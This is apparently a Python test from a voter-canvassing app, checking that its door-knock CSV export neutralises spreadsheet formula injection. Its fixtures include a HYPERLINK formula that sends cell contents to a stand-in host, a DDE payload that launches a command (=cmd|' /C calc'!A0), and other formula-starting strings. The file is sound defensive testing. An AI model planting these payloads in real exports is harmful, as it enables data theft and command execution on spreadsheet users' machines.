"""Every CSV the project writes opens safely in a spreadsheet: text that would start a formula gets a leading '."""

import csv
import io

from sqlalchemy import select

from app.addresses.models import Household, Person
from tests.sync.helpers import HOME, batch, doors, hold, knock, send

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


async def test_door_knocks_csv_prefixes_formulas_from_notes_and_voter_names(cut_client, cut_session, world):
    walk = await hold(cut_client, world, "organizer")
    # A voter whose file name is a formula, at the first door.
    household_id = doors(walk)[0]["id"]
    address_id = await cut_session.scalar(select(Household.external_id).where(Household.id == household_id))
    voters = f"voter_id,address_id,first_name,last_name\nCSV-1,{address_id},=cmd|' /C calc'!A0,-Smith\n"
    r = await cut_client.post(f"{HOME}/people", files={"file": ("v.csv", voters.encode(), "text/csv")},
                              headers=world.headers("organizer"))
    assert r.json()["created"] == 1, r.text
    await cut_session.rollback()
    person_id = await cut_session.scalar(select(Person.id).where(Person.external_id == "CSV-1"))
    knocks = [knock(walk, 0, "contacted", person_id=person_id, note=FORMULAS[0])]
    knocks += [knock(walk, i + 1, "not_home", note=note) for i, note in enumerate(FORMULAS[1:])]
    knocks.append(knock(walk, len(FORMULAS), "not_home", note="plain words, = inside"))
    sent = (await send(cut_client, world, batch(knocks), "organizer")).json()
    assert sent["accepted"] == len(knocks), [o for o in sent["knocks"] if o["status"] != "accepted"]

    r = await cut_client.get(f"{HOME}/door-knocks.csv", headers=world.headers("organizer"))
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
    assert [rows[k["id"]]["note"] for k in knocks] == ["'" + n for n in FORMULAS] + ["plain words, = inside"]
    first = rows[knocks[0]["id"]]
    assert first["person_name"] == "'=cmd|' /C calc'!A0 -Smith"
    # Answers are a JSON object: its cell starts with { whatever the answers hold, and is left as it is.
    assert first["answers"] == "{}"
    # Numbers stay numbers: ids and sequence numbers unprefixed.
    assert first["household_id"] == str(household_id) and first["person_id"] == str(person_id)
    assert first["seq"].isdigit() and first["turf_id"] == str(walk["turf"]["id"])
    assert not any(v.startswith("'") for row in rows.values()
                   for k, v in row.items() if k not in ("note", "person_name"))
